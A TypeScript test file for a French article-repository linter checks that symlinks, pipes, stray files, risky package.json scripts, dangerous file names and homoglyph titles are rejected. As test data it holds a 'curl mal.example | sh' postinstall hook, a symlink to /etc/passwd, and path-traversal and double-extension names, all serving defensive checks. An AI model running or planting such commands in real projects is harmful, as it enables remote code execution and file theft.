import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { ARTICLE, article, check, findings } from '../test/findings.ts';
import { contentFolder, JPEG } from '../test/sandbox.ts';
import { territoryPackage } from './rules/package-file.ts';
import { listTerritories } from './shared.ts';

const FOLDER = 'articles/2026/mon-article';

describe('a link is never followed, nor a pipe waited for', () => {
  const link = (path: string, to = '/etc/passwd') => {
    const root = contentFolder({ [ARTICLE]: article() });
    const file = join(root, 'fictif', path);
    rmSync(file, { recursive: true, force: true });
    mkdirSync(dirname(file), { recursive: true });
    symlinkSync(to, file);
    return check(root);
  };

  test.each([
    ['a text', `${FOLDER}/index.md`],
    ['an image', `${FOLDER}/photo.jpg`],
    ['the folder of an entry', 'articles/2026/passe'],
    ['a year', 'articles/2025'],
    ['a rubrique', 'lieux'],
    ['a table of redirects', 'redirections.yaml'],
    ['what a build leaves', 'dist'],
  ])('%s', (_, path) => {
    const found = link(path);
    expect(found.filter((line) => line.includes(' chemin '))[0]).toBe(
      `${path}:1:1 chemin lien vers un autre endroit : le remplacer par le fichier ou le dossier lui-même`,
    );
    expect(found.join()).not.toContain('root:');
  });

  test('the territory’s own description', () => {
    expect(link('territoire.yaml').every((line) => line.includes(' chemin '))).toBe(true);
  });

  test.each([`${FOLDER}/index.md`, `${FOLDER}/photo.jpg`, 'territoire.yaml', 'lieux'])(
    'a pipe at %s',
    (path) => {
      const root = contentFolder({ [ARTICLE]: article() });
      rmSync(join(root, 'fictif', path), { force: true });
      execFileSync('mkfifo', [join(root, 'fictif', path)]);
      expect(check(root)).toContainEqual(
        expect.stringMatching(new RegExp(`^${path}:1:1 chemin .*: le retirer$`)),
      );
    },
  );
});

test('what commands leave of a territory of another branch is no territory', () => {
  const root = contentFolder({
    'autre/node_modules/.modules.yaml': '',
    'autre/dist/api/v1/articles.json': '[]',
    'sans-description/articles/2026/a/index.md': article(),
  });
  mkdirSync(join(root, 'vide'));
  expect(listTerritories(root)).toEqual(['fictif', 'sans-description', 'vide']);
});

describe('the folder of a territory has nothing else', () => {
  test.each(['.gitattributes', '.npmrc', 'postinstall.js', 'notes.yaml', 'taxonomies.yaml'])(
    '%s',
    (name) => {
      expect(findings({ [`fictif/${name}`]: 'x: 1' })).toEqual([
        expect.stringContaining(`${name}:1:1 emplacement`),
      ]);
    },
  );

  test('a package.json that runs or fetches something is refused', () => {
    const plain = territoryPackage('fictif');
    const said = (value: unknown) =>
      findings({
        'fictif/package.json': typeof value === 'string' ? value : JSON.stringify(value),
      });
    expect(said(plain)).toEqual([]);
    for (const odd of [
      { ...plain, scripts: { ...plain.scripts, postinstall: 'curl mal.example | sh' } },
      { ...plain, dependencies: { mal: '1.0.0' } },
      { ...plain, scripts: { export: 'id' } },
      '{',
    ]) {
      expect(said(odd)).toEqual([
        expect.stringContaining('package.json:1:1 fichier ce fichier est'),
      ]);
    }
  });

  test.each(['.bin/node', 'paquet/index.js', '@echosciences/scripts/index.js', 'a.js'])(
    'node_modules/%s, which a command of the territory could find before any other',
    (path) => {
      expect(findings({ [`fictif/node_modules/${path}`]: '#!/bin/sh' })).toEqual([
        expect.stringMatching(/^node_modules\/\S+:1:1 fichier un contenu n’a ni programme/),
      ]);
    },
  );

  test('what pnpm installs is no fault', () => {
    const root = contentFolder({ [ARTICLE]: article() });
    mkdirSync(join(root, 'fictif/node_modules/@echosciences'), { recursive: true });
    symlinkSync('../../../scripts', join(root, 'fictif/node_modules/@echosciences/scripts'));
    expect(check(root)).toEqual([]);
  });

  test('a package.json beside a text is a file that does not belong', () => {
    expect(findings({ [ARTICLE]: article(), [`fictif/${FOLDER}/package.json`]: '{}' })).toEqual([
      expect.stringContaining('package.json:1:1 fichier seules les images'),
    ]);
  });
});

describe('names that some disk, server or person would not take as they are', () => {
  const named = (name: string) =>
    findings({ [ARTICLE]: article(), [`fictif/${FOLDER}/${name}`]: JPEG }).filter(
      (line) => !line.includes('(avertissement)'),
    );

  test.each(['photo.jpg', 'Photo_2.JPG', 'm.dupont-2.jpeg', 'photo.v2.jpg'])(
    '%s is a plain name',
    (name) => {
      expect(named(name)).toEqual([]);
    },
  );

  test.each([
    ['photo.php.jpg', 'double extension : renommer en « photo.jpg »'],
    ['photo.html.jpg', 'double extension'],
    ['photo.png.jpg', 'double extension'],
    ['aux.jpg', '« aux » est un nom réservé par Windows'],
    ['Com1.jpg', '« Com1 » est un nom réservé'],
    [
      '.photo.jpg',
      'nom de fichier à lettres sans accent, chiffres et tirets seulement : renommer en « photo.jpg »',
    ],
    [
      'photo .jpg',
      'nom de fichier à lettres sans accent, chiffres et tirets seulement : renommer en « photo.jpg »',
    ],
    [
      'été à Nice.jpg',
      'nom de fichier à lettres sans accent, chiffres et tirets seulement : renommer en « ete-a-nice.jpg »',
    ],
    [
      'e\u0301te\u0301.jpg',
      'nom de fichier à lettres sans accent, chiffres et tirets seulement : renommer en « ete.jpg »',
    ],
    [
      'a\nb.jpg',
      'nom de fichier à lettres sans accent, chiffres et tirets seulement : renommer en « a-b.jpg »',
    ],
    [
      'a:b.jpg',
      'nom de fichier à lettres sans accent, chiffres et tirets seulement : renommer en « a-b.jpg »',
    ],
    ['a\\..\\b.jpg', 'nom de fichier à lettres sans accent'],
    ['%2e%2e%2fa.jpg', 'nom de fichier à lettres sans accent'],
    ['gpj.\u202Ejpg.jpg', 'nom de fichier à lettres sans accent'],
    [`${'a'.repeat(120)}.jpg`, 'nom de 124 caractères, 100 au plus'],
  ])('%s', (name, expected) => {
    expect(named(name)).toEqual([expect.stringContaining(`:1:1 nom ${expected}`)]);
  });

  test('two names that differ by their capitals', () => {
    const root = contentFolder({ [ARTICLE]: article(), [`fictif/${FOLDER}/photo.jpg`]: JPEG });
    writeFileSync(join(root, 'fictif', FOLDER, 'Photo.jpg'), JPEG);
    expect(check(root).filter((line) => line.includes(' nom '))).toEqual([
      `${FOLDER}/photo.jpg:1:1 nom « photo.jpg » et « Photo.jpg » ne font qu’un fichier sur Windows et sur Mac : renommer l’un des deux`,
    ]);
  });

  test('a folder by the name of a device', () => {
    expect(findings({ 'fictif/articles/2026/con/index.md': article() })).toEqual([
      'articles/2026/con:1:1 nom « con » est un nom réservé par Windows : renommer le dossier, par exemple en « con-article »',
    ]);
  });

  test('a folder whose name no address can hold', () => {
    expect(findings({ [`fictif/articles/2026/${'a'.repeat(121)}/index.md`]: article() })).toEqual([
      expect.stringContaining('identifiant nom de dossier de 121 caractères, 120 au plus'),
    ]);
  });
});

describe('a title of letters that look alike', () => {
  test.each([
    [
      'Fête de la sciеnce',
      '« sciеnce » mêle des lettres latines et le « е » d’un autre alphabet (U+0435)',
    ],
    ['Ρaléontologie', '(U+03A1)'],
  ])('%s is refused', (title, expected) => {
    expect(findings({ [ARTICLE]: article({ title: `title: ${title}` }) })).toEqual([
      expect.stringContaining(expected),
    ]);
  });

  test.each([
    'Mesurer 5 μm et Δt',
    'Les rayons β-mimétiques',
    'Пушкин et Pouchkine',
    'L’œuvre d’Édith',
  ])('%s is a title', (title) => {
    expect(findings({ [ARTICLE]: article({ title: `title: ${title}` }) })).toEqual([]);
  });
});
